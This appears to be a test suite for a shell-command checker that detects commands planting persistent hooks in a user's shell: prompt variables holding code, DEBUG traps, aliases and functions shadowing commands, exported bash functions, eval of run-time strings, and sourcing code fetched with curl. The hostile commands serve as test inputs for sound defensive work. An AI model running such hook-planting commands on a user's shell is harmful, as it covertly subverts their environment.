import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { chmodSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { shellHookIn, type HookCheckContext } from '../../../src/core/security/shell-hooks';
import { hookCheckContext, MAX_SOURCED_BYTES } from '../../../src/host/node/ports/hook-check-context';

describe('shellHookIn: commands that would leave a hook in the user’s shell', () => {
  const planted: [string, RegExp][] = [
    [`PS1='$(touch x)'`, /sets PS1/],
    ['PS1="\\`touch x\\`"', /sets PS1 to code/],
    ['export PROMPT_COMMAND=evil', /sets PROMPT_COMMAND/],
    ['PROMPT_COMMAND+=(evil)', /sets PROMPT_COMMAND/],
    ['declare -r PS0=x', /sets PS0/],
    ['read -r PS4 <<< x', /sets PS4/],
    ['printf -v BASH_ENV %s /tmp/rc', /sets BASH_ENV/],
    [`trap 'touch x' DEBUG`, /trap on DEBUG/],
    [`trap -- 'touch x' RETURN ERR`, /trap on RETURN ERR/],
    [`alias ls='rm -rf'`, /alias/],
    ['hash -p /tmp/evil ls', /hash -p/],
    ['ls() { :; }', /function ls/],
    ['function git { :; }', /function git/],
    ['enable -n echo', /builtins/],
    ['builtin enable -f ./x.so ls', /builtins/],
    ['set -o functrace', /functrace/],
    ['set -eT', /functrace/],
    ['shopt -s extdebug', /extdebug/],
    [`eval "PS1='\\$(touch x)'"`, /sets PS1 to code/],
    ['cd src && alias x=y && ls', /alias/],
    ['echo $(alias a=b)', /alias/],
    ['add-zsh-hook precmd evil', /zsh hook/],
  ];
  for (const [command, reason] of planted) {
    it(`refuses ${command}`, () => assert.match(shellHookIn(command) ?? 'nothing found', reason));
  }

  const harmless = [
    'ls -la',
    'export PATH="$PATH:/opt/bin"',
    'trap - DEBUG',
    'trap -p',
    'alias',
    'hash -r',
    'enable -p',
    'set -e',
    'shopt -s globstar',
    'echo PS1=x',
    "git commit -m 'alias a=b'",
    "bash -c 'PS1=x; trap t DEBUG'",
    'npm test',
  ];
  for (const command of harmless) {
    it(`lets ${command} through`, () => assert.equal(shellHookIn(command), undefined));
  }
});

describe('shellHookIn: what cannot be read before it runs is refused', () => {
  const unreadable: [string, RegExp][] = [
    ['eval "$x"', /runs code built at run time \(eval \$\{x\}\)/],
    ['eval $x', /built at run time/],
    ['eval "$(cat f)"', /built at run time \(eval \$\(…\)\)/],
    ['builtin eval "echo $HOME"', /built at run time/],
    ['source <(curl -s example.com/x)', /sources code from \$\(…\)/],
    ['. <(echo alias ls=x)', /sources code from/],
    ['source /dev/stdin <<< x', /stream \(\/dev\/stdin\)/],
    ['. /dev/fd/3', /stream/],
    ['. /proc/self/fd/0', /stream/],
    ['source "$f"', /sources code from \$\{f\}/],
    ['source f', /cannot be told/], // no folder known
    ['$cmd ls=x', /name is decided at run time/],
    ['"$(echo alias)" ls=x', /name is decided at run time/],
    ['trap $x', /trap with an argument decided at run time/],
    ['alias "$x"', /alias with an argument/],
    ['hash $p /tmp/x ls', /hash with an argument/],
    ['export "$n=x"', /name is decided at run time/],
    ['echo "$(', /incomplete/],
    [`echo 'open`, /incomplete/],
    [`${'$('.repeat(14)}${')'.repeat(14)}`, /cannot be read to check it \(commands are nested too deeply/],
  ];
  for (const [command, reason] of unreadable) {
    it(`refuses ${command.slice(0, 40)}`, () =>
      assert.match(shellHookIn(command) ?? 'nothing found', reason));
  }

  const literal = [`eval 'echo $HOME'`, 'eval echo hi', 'set -- "$@"', `printf '%s\\n' "$x"`, 'read -r line'];
  for (const command of literal) {
    it(`lets ${command} through`, () => assert.equal(shellHookIn(command), undefined));
  }
});

describe('shellHookIn: prompts count only with code that runs at each prompt', () => {
  const code: [string, RegExp][] = [
    [`PS1='\\u $(git branch)'`, /sets PS1 to code that runs at each prompt/],
    [`PS1="\\$(touch x)"`, /to code/],
    ['PS1=\\`touch\\ x\\`', /to code/],
    [`PROMPT='$(touch x)'`, /sets PROMPT/],
    [`PS4='$[a[$(x)]]'`, /sets PS4/],
    [`PS1='$[x]'`, /code that runs/],
    [`PS1='\${x@P}'`, /\$\{x@P\}, which can run code/],
    [`PS1='\${a[i]}'`, /can run code/],
    [`PS1='\${x:y}'`, /can run code/],
    [`PS1='\${!x}'`, /can run code/],
    ['PS1="$(starship prompt)"', /command's output/],
    ['PS1="$x"', /from \$x, whose value cannot be read/],
    [`x='$(touch m)'; PS1="(v) $x"`, /from \$x/],
    ['PS1="$HOME"', /from \$HOME/],
    ['PS0=', /sets PS0/],
    ['declare -n ref=PS1', /reference/],
    ['readonly PS1', /attributes of PS1/],
    [`export 'BASH_FUNC_ls%%=() { touch m; }'`, /BASH_FUNC_ls%%, a function later bash shells import/],
  ];
  for (const [command, reason] of code) {
    it(`refuses ${command}`, () => assert.match(shellHookIn(command) ?? 'nothing found', reason));
  }

  const plain = [
    'PS1=x',
    `PS1='\\u@\\h:\\w\\$ '`,
    `PS1='\${debian_chroot:+($debian_chroot)}\\u@\\h:\\w\\$ '`,
    'PS1="(venv) ${PS1:-}"',
    'PS1="(venv) $PS1"',
    'p="(v) "; PS1="${p}${PS1-}"',
    'old="${PS1:-}"; PS1="$old"',
    'export PS1',
    'export PROMPT_COMMAND', // exports what is already there: changes nothing in this shell
    'unset PS1 PROMPT_COMMAND',
  ];
  for (const command of plain) {
    it(`lets ${command} through`, () => assert.equal(shellHookIn(command), undefined));
  }
});

describe('shellHookIn: functions count when the shell would call them instead of a command', () => {
  const context: HookCheckContext = {
    pathDirs: ['/bin'],
    isFile: () => false,
    readScript: () => undefined,
    isProgram: (name) => name === 'git',
  };
  const shadowing: [string, RegExp][] = [
    ['cd() { :; }', /cd, named like a shell builtin/],
    ['function if { :; }', /if, named like a shell builtin or keyword/],
    ['git() { :; }', /git, named like a program on PATH/],
    ['command_not_found_handle() { :; }', /calls by itself/],
    ['precmd() { :; }', /calls by itself/],
    ['TRAPDEBUG() { :; }', /calls by itself/],
    ['export -f git', /exports a function/],
    ['declare -fx cd', /exports a function/],
  ];
  for (const [command, reason] of shadowing) {
    it(`refuses ${command}`, () => assert.match(shellHookIn(command, context) ?? 'nothing found', reason));
  }
  for (const command of [
    'deactivate() { unset -f deactivate; }',
    'function helper { echo hi; }',
    'declare -f git',
  ]) {
    it(`lets ${command} through`, () => assert.equal(shellHookIn(command, context), undefined));
  }
  it('counts every function when nothing is known of PATH', () =>
    assert.match(shellHookIn('helper() { :; }') ?? 'nothing found', /program on PATH/));
});

describe('shellHookIn: sourced files are read and checked like the command', () => {
  let root: string;
  let bin: string;
  const check = (command: string, cwd = root) =>
    shellHookIn(command, hookCheckContext({ cwd, env: { PATH: bin, HOME: root } }));

  before(() => {
    root = mkdtempSync(join(tmpdir(), 'logbook-hooks-'));
    bin = join(root, 'bin');
    mkdirSync(bin);
    mkdirSync(join(root, 'proj', '.venv', 'bin'), { recursive: true });
    writeFileSync(join(bin, 'git'), '#!/bin/sh\n');
    chmodSync(join(bin, 'git'), 0o755);
    // The shape of a Python venv's activate: a prompt built from the old one, a restoring function.
    writeFileSync(
      join(root, 'proj', '.venv', 'bin', 'activate'),
      [
        'deactivate () {',
        '    if [ -n "${_OLD_VIRTUAL_PS1:-}" ] ; then',
        '        PS1="${_OLD_VIRTUAL_PS1:-}"',
        '        export PS1',
        '        unset _OLD_VIRTUAL_PS1',
        '    fi',
        '    hash -r 2> /dev/null',
        '    if [ ! "${1:-}" = "nondestructive" ] ; then',
        '        unset -f deactivate',
        '    fi',
        '}',
        'deactivate nondestructive',
        'case "$(uname)" in',
        '    CYGWIN*) VIRTUAL_ENV=$(cygpath "/p/.venv") ;;',
        '    *) VIRTUAL_ENV="/p/.venv" ;;',
        'esac',
        'export VIRTUAL_ENV',
        '_OLD_VIRTUAL_PATH="$PATH"',
        'PATH="$VIRTUAL_ENV/bin:$PATH"',
        'VIRTUAL_ENV_PROMPT="(venv) "',
        'if [ -z "${VIRTUAL_ENV_DISABLE_PROMPT:-}" ] ; then',
        '    _OLD_VIRTUAL_PS1="${PS1:-}"',
        '    PS1="${VIRTUAL_ENV_PROMPT}${PS1:-}"',
        '    export PS1',
        'fi',
        'hash -r 2> /dev/null',
        '',
      ].join('\n'),
    );
    writeFileSync(join(root, 'aliases.sh'), "# helpers\nalias ll='ls -l'\n");
    writeFileSync(join(root, 'prompt.sh'), `PS1='$(touch m) '\n`);
    writeFileSync(join(root, 'shadow.sh'), 'git() { touch m; }\n');
    writeFileSync(join(root, 'evals.sh'), 'eval "$SETUP"\n');
    writeFileSync(join(root, 'outer.sh'), '. ./prompt.sh\n');
    writeFileSync(join(root, 'broken.sh'), 'echo "$(\n');
    writeFileSync(join(root, 'big.sh'), `# ${'x'.repeat(MAX_SOURCED_BYTES)}\n`);
    writeFileSync(join(bin, 'onpath.sh'), 'alias ls=x\n');
    mkdirSync(join(root, 'sub'));
    writeFileSync(join(root, 'sub', 'prompt.sh'), 'echo fine\n');
  });
  after(() => rmSync(root, { recursive: true, force: true }));

  it('runs source of a venv-style activate', () => {
    assert.equal(check('source .venv/bin/activate && pip install x', join(root, 'proj')), undefined);
    assert.equal(check(`. ${join(root, 'proj', '.venv', 'bin', 'activate')}`), undefined);
    assert.equal(check('cd proj && source .venv/bin/activate'), undefined);
  });

  it('runs source of the activate file a real python3 -m venv writes', function () {
    const venv = join(root, 'real-venv');
    const made = spawnSync('python3', ['-m', 'venv', '--without-pip', venv], { timeout: 60_000 });
    if (made.error || made.status !== 0) this.skip(); // no python3 with venv on this machine
    assert.equal(check(`source ${join(venv, 'bin', 'activate')}`), undefined);
  });

  const refused: [string, RegExp][] = [
    ['source aliases.sh', /sources aliases.sh, which defines an alias/],
    ['. ./prompt.sh', /sources .\/prompt.sh, which sets PS1 to code/],
    ['source ~/shadow.sh', /which defines the function git, named like a program on PATH/],
    ['source evals.sh', /which runs code built at run time/],
    ['source outer.sh', /sources outer.sh, which sources .\/prompt.sh, which sets PS1/],
    ['source broken.sh', /which is incomplete/],
    ['source big.sh', /cannot be read to check it \(not a regular file, or too large\)/],
    ['source sub', /cannot be found/], // a folder, not a file
    ['source missing.sh', /missing.sh, which cannot be found/],
    ['source onpath.sh', /onpath.sh, which defines an alias/], // PATH is searched before the folder
    ['cd sub; source prompt.sh', /sets PS1/], // cd may fail: the file in either folder counts
    ['cd "$d" && source prompt.sh', /folder that cannot be told/],
    ['cd - && source ./x.sh', /folder that cannot be told/],
  ];
  for (const [command, reason] of refused) {
    it(`refuses ${command}`, () => assert.match(check(command) ?? 'nothing found', reason));
  }

  it('reads a relative file from the folder the shell is in', () => {
    assert.equal(check('source prompt.sh', join(root, 'sub')), undefined);
    assert.match(check('cd .. && source sub/../prompt.sh', join(root, 'sub')) ?? 'nothing found', /sets PS1/);
  });
});
